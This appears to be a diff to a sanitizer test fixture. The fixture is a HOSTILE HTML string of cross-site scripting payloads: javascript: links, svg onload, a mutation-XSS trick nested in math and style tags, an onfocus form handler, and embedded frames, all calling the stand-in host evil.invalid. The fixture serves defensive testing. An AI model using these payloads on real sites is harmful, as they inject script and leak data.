@@ -112,7 +112,7 @@ HOSTILE = b"""<html><head><title>x</title>
 <a href="javascript:fetch('http://evil.invalid/js')">script link</a><a href="data:text/html,<script>1</script>">data link</a>
 <a href="http://evil.invalid/click" ping="http://evil.invalid/ping">web link</a><a href="#main">inner link</a>
 <svg onload="fetch('http://evil.invalid/svg')"><script>fetch('http://evil.invalid/svgscript')</script><image href="http://evil.invalid/i.gif"/></svg>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('http://evil.invalid/mxss')&gt;">
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('http://evil.invalid/mxss')&gt;"></mglyph></table></mtext></math>
 <iframe src="http://evil.invalid/frame"></iframe><object data="http://evil.invalid/object"></object><embed src="http://evil.invalid/embed">
 <video src="http://evil.invalid/video" poster="http://evil.invalid/poster"></video><audio src="http://evil.invalid/audio" autoplay></audio>
 <form action="http://evil.invalid/form"><input name="a" autofocus onfocus="fetch('http://evil.invalid/focus')"><button>send</button></form>
